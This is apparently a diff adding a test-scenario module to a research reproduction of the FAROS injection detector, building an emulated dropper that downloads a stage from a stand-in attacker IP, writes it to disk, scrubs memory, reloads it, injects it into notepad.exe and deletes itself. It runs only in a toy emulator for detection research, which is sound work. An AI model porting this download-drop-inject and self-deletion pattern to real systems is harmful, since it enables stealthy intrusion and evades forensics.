@@ -1,0 +1,158 @@
+"""The drop-and-reload attack: payload staged through the filesystem.
+
+A classic variant the in-memory-only attacks avoid, but real droppers
+use: the malware downloads its stage, **writes it to disk**, reads it
+back later, and only then injects it.  The disk hop launders direct
+byte taint (file content is re-materialised on read), so the read-back
+bytes carry only *file* tags -- which is exactly why FAROS' file tags
+carry ``(name, version)``: the write that produced the content recorded
+the buffer's provenance under the same key, and
+:meth:`repro.faros.report.FarosReport.stitched` splices the chains back
+together, recovering the netflow origin across the disk.
+
+Detection itself does not need the stitch: the injected stage still
+carries two process tags when the victim executes it (cross-process
+confluence).  The stitch restores the *forensics* -- "where did this
+come from" -- which the paper holds up as FAROS' value to an analyst.
+"""
+
+from __future__ import annotations
+
+from repro.attacks.common import (
+    ATTACKER_IP,
+    ATTACKER_PORT,
+    FIRST_EPHEMERAL_PORT,
+    GUEST_IP,
+    PAYLOAD_BASE,
+    assemble_image,
+    benign_host_asm,
+    recv_exact_asm,
+)
+from repro.attacks.metasploit import AttackScenario
+from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
+from repro.emulator.devices import Packet
+from repro.emulator.record_replay import PacketEvent, Scenario
+
+DROP_PATH = "C:\\\\stage.bin"
+
+
+def _dropper_asm(payload_size: int, target_name: str) -> str:
+    return f"""
+    start:
+        ; download the stage
+        movi r0, SYS_SOCKET
+        syscall
+        mov r7, r0
+        mov r1, r7
+        movi r2, attacker_ip
+        movi r3, {ATTACKER_PORT}
+        movi r0, SYS_CONNECT
+        syscall
+{recv_exact_asm("r7", "stage_buf", payload_size, "dl")}
+        ; DROP: persist the stage to disk
+        movi r1, drop_path
+        movi r0, SYS_CREATE_FILE
+        syscall
+        mov r1, r0
+        movi r2, stage_buf
+        movi r3, {payload_size}
+        movi r0, SYS_WRITE_FILE
+        syscall
+        ; scrub the in-memory download (the taint the disk hop launders)
+        movi r1, stage_buf
+        movi r2, 0
+        movi r3, {payload_size}
+    scrub:
+        stb [r1], r2
+        addi r1, r1, 1
+        subi r3, r3, 1
+        cmpi r3, 0
+        jnz scrub
+        ; RELOAD: read the stage back from disk
+        movi r1, drop_path
+        movi r0, SYS_OPEN_FILE
+        syscall
+        mov r1, r0
+        movi r2, stage_buf
+        movi r3, {payload_size}
+        movi r0, SYS_READ_FILE
+        syscall
+        ; inject into the victim as usual
+        movi r1, target_name
+        movi r0, SYS_FIND_PROCESS
+        syscall
+        mov r1, r0
+        movi r0, SYS_OPEN_PROCESS
+        syscall
+        mov r6, r0
+        mov r1, r6
+        movi r2, {payload_size}
+        movi r3, PERM_RWX
+        movi r4, {PAYLOAD_BASE:#x}
+        movi r0, SYS_ALLOC_VM
+        syscall
+        mov r1, r6
+        movi r2, {PAYLOAD_BASE:#x}
+        movi r3, stage_buf
+        movi r4, {payload_size}
+        movi r0, SYS_WRITE_VM
+        syscall
+        mov r1, r6
+        movi r2, {PAYLOAD_BASE + PAYLOAD_ENTRY_OFFSET:#x}
+        movi r3, 0
+        movi r0, SYS_CREATE_REMOTE_THREAD
+        syscall
+        ; delete the dropped stage AND ourselves (anti-forensics)
+        movi r1, drop_path
+        movi r0, SYS_DELETE_FILE
+        syscall
+        movi r1, own_path
+        movi r0, SYS_DELETE_FILE
+        syscall
+        movi r1, 0
+        movi r0, SYS_EXIT
+        syscall
+    attacker_ip: .asciz "{ATTACKER_IP}"
+    target_name: .asciz "{target_name}"
+    drop_path: .asciz "{DROP_PATH}"
+    own_path: .asciz "dropper.exe"
+    stage_buf: .space {payload_size}
+    """
+
+
+def build_drop_reload_scenario(target_name: str = "notepad.exe") -> AttackScenario:
+    """Download → drop to disk → scrub memory → reload → inject."""
+    stage = build_popup_payload(PAYLOAD_BASE)
+    payload = stage.code
+
+    def setup(machine) -> None:
+        machine.kernel.register_image(
+            target_name, assemble_image(benign_host_asm(f"{target_name} up"))
+        )
+        machine.kernel.spawn(target_name)
+        machine.kernel.register_image(
+            "dropper.exe", assemble_image(_dropper_asm(len(payload), target_name))
+        )
+        machine.kernel.spawn("dropper.exe")
+
+    events = [
+        (
+            20_000,
+            PacketEvent(
+                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
+            ),
+        )
+    ]
+    return AttackScenario(
+        scenario=Scenario(
+            name="drop_reload",
+            setup=setup,
+            events=events,
+            max_instructions=700_000,
+        ),
+        client_process="dropper.exe",
+        target_process=target_name,
+        payload_size=len(payload),
+        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
+        module="drop_reload",
+    )
